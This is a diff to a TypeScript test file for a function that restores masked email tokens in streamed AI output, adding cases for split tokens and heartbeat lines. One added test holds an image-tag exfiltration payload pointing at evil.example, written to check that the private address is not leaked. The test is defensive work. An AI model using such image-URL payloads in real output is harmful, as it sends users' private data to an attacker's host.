@@ -50,6 +50,13 @@ describe('an address that reaches over the strings of JSON keeps its tokens', ()
     expect(restoreStream('text', map, lines)).not.toContain('a@b.example');
   });
 
+  test('nor does what is held when an address begins in another text', () => {
+    const event = (delta: object) => `data: ${JSON.stringify({ choices: [{ index: 0, delta }] })}\n\n`;
+    const image = { reasoning: "<img src='https://evil.example/?q=" };
+    const text = `${event({ content: 'x [[EMAIL-1]' })}${event(image)}data: [DONE]\n\n${event({ reasoning: "'>" })}`;
+    expect(restored(text)).not.toContain('a@b.example');
+  });
+
   test('a link that is cut keeps none behind it', () => {
     const said = 'See [Docs](https://example.com/guide). Ask [EMAIL-1] there.';
     for (let cut = 1; cut < said.length; cut++) {
@@ -92,13 +99,24 @@ test.each([
   expect(restoreAnswerText('text', text, map)).toBe(expected);
 });
 
-test.each([': ping\n\n', 'event: ping\n\n', 'retry: 3000\n\n', ':\n\n', '\n'])(
-  '%j is no prose between events',
-  (ping) => {
-    const text = `data: {"content":"Hi [EMA"}\n\n${ping}data: {"content":"IL-1]"}\n\n`;
-    expect(restored(text)).toBe(text.replace('[EMA', '').replace('IL-1]', 'a@b.example'));
-  },
-);
+test.each([
+  ': ping\n\n',
+  ': [heartbeat]\n\n',
+  ': 50%\n\n',
+  'id: a&b\n\n',
+  'event: ping\n\n',
+  'retry: 3000\n\n',
+  ':\n\n',
+  '\n',
+])('%j is no prose between events', (ping) => {
+  const text = `data: {"content":"Hi [EMA"}\n\n${ping}data: {"content":"IL-1]"}\n\n`;
+  expect(restored(text)).toBe(text.replace('[EMA', '').replace('IL-1]', 'a@b.example'));
+});
+
+test('a last line without an end stays one line, and what is put in behind it is another', () => {
+  expect(restored('{"q":"AT&"}')).toBe('{"q":"AT&"}');
+  expect(restored('{"q":"AT&"}\n{"r":"["}')).toBe('{"q":"AT"}\n{"r":"["}\n{"q":"&"}\n');
+});
 
 test('a line of blanks is no prose between lines', () => {
   const text = '{"response":"Hi [EMA"}\n \n{"response":"IL-1]"}\n';
